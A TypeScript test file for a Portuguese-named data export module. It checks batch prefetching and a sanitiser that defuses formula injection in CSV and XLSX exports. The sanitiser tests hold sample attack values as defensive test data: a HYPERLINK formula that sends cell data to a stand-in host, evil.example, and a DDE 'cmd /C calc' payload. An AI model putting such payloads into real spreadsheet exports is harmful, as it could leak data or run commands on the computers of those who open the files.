import ExcelJS from 'exceljs';
import Fastify from 'fastify';
import { describe, expect, it } from 'vitest';
import { type ColunaExportacao, celulaSegura, comLoteAdiantado, enviarExportacao } from './exportacao';

describe('comLoteAdiantado (the export reads the next batch while writing one)', () => {
  it('asks for the next batch before the current one is handed over, and keeps the order', async () => {
    const pedidos: string[] = [];
    async function* lotes() {
      for (const n of [1, 2, 3]) {
        pedidos.push(`lê ${n}`);
        yield [n];
      }
    }
    const recebidos: number[] = [];
    for await (const lote of comLoteAdiantado(lotes())) {
      pedidos.push(`escreve ${lote[0]}`);
      recebidos.push(...lote);
    }
    expect(recebidos).toEqual([1, 2, 3]);
    // batch 2 is being read when batch 1 is written; never more than one ahead
    expect(pedidos).toEqual(['lê 1', 'lê 2', 'escreve 1', 'lê 3', 'escreve 2', 'escreve 3']);
  });

  it('passes on a failure of the batch read ahead when it is reached', async () => {
    async function* lotes() {
      yield [1];
      throw new Error('falha no lote 2');
    }
    const recebidos: number[] = [];
    await expect(async () => {
      for await (const lote of comLoteAdiantado(lotes())) recebidos.push(...lote);
    }).rejects.toThrow('falha no lote 2');
    expect(recebidos).toEqual([1]);
  });
});

describe('celulaSegura (no cell of an export is read as a formula: OWASP, CSV injection)', () => {
  it('puts a single quote before a text that starts with =, +, -, @, a tab or a carriage return', () => {
    expect(celulaSegura('=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe(
      `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
    );
    expect(celulaSegura('+55 47 3333-0000')).toBe(`'+55 47 3333-0000`);
    expect(celulaSegura('-2+3+cmd|" /C calc"!A0')).toBe(`'-2+3+cmd|" /C calc"!A0`);
    expect(celulaSegura('@SUM(A1:A9)')).toBe(`'@SUM(A1:A9)`);
    expect(celulaSegura('\t=1+1')).toBe(`'\t=1+1`);
    expect(celulaSegura('\r=1+1')).toBe(`'\r=1+1`);
  });

  it('keeps any other text, numbers (negative too), a negative number written as text, and empty cells', () => {
    expect(celulaSegura('Maria da Silva')).toBe('Maria da Silva');
    expect(celulaSegura('a=1')).toBe('a=1');
    expect(celulaSegura(' =1')).toBe(' =1');
    expect(celulaSegura('2026-12-31')).toBe('2026-12-31');
    expect(celulaSegura('')).toBe('');
    expect(celulaSegura(-12.5)).toBe(-12.5);
    expect(celulaSegura(0)).toBe(0);
    expect(celulaSegura('-12')).toBe('-12');
    expect(celulaSegura('-1.234,56')).toBe('-1.234,56');
    expect(celulaSegura(null)).toBeNull();
  });
});

describe('enviarExportacao (both writers neutralise formulas and keep numbers)', () => {
  interface Linha {
    nome: string;
    saldo: number;
  }
  const colunas: ColunaExportacao<Linha>[] = [
    { titulo: 'Nome', valor: (l) => l.nome },
    { titulo: 'Saldo', valor: (l) => l.saldo },
  ];
  const linhas: Linha[] = [
    { nome: '=1+1', saldo: -3 },
    { nome: '@SUM(A1)', saldo: 4.5 },
    { nome: '\t-cmd', saldo: -0.25 },
    { nome: 'Ana', saldo: 0 },
  ];
  async function exportar(formato: 'csv' | 'xlsx') {
    const app = Fastify();
    app.get('/exportar', async (_request, reply) =>
      enviarExportacao(reply, {
        formato,
        nome: 'teste',
        colunas,
        lotes: (async function* () {
          yield linhas;
        })(),
      }),
    );
    const r = await app.inject({ method: 'GET', url: '/exportar' });
    await app.close();
    return r;
  }

  it('CSV: the texts behind a quote, the negative numbers as numbers', async () => {
    const r = await exportar('csv');
    expect(r.body).toBe(`\uFEFFNome;Saldo\r\n'=1+1;-3\r\n'@SUM(A1);4.5\r\n'\t-cmd;-0.25\r\nAna;0\r\n`);
  });

  it('XLSX: the texts as strings behind a quote (no formula), the negative numbers as numbers', async () => {
    const r = await exportar('xlsx');
    const livro = new ExcelJS.Workbook();
    await livro.xlsx.load(r.rawPayload as unknown as ArrayBuffer);
    const folha = livro.worksheets[0];
    const celulas = [2, 3, 4, 5].map((n) => [folha.getRow(n).getCell(1), folha.getRow(n).getCell(2)]);
    expect(celulas.map(([nome, saldo]) => [nome.value, saldo.value])).toEqual([
      ["'=1+1", -3],
      ["'@SUM(A1)", 4.5],
      ["'\t-cmd", -0.25],
      ['Ana', 0],
    ]);
    for (const [nome, saldo] of celulas) {
      expect(nome.type).toBe(ExcelJS.ValueType.String);
      expect(saldo.type).toBe(ExcelJS.ValueType.Number);
    }
  });
});
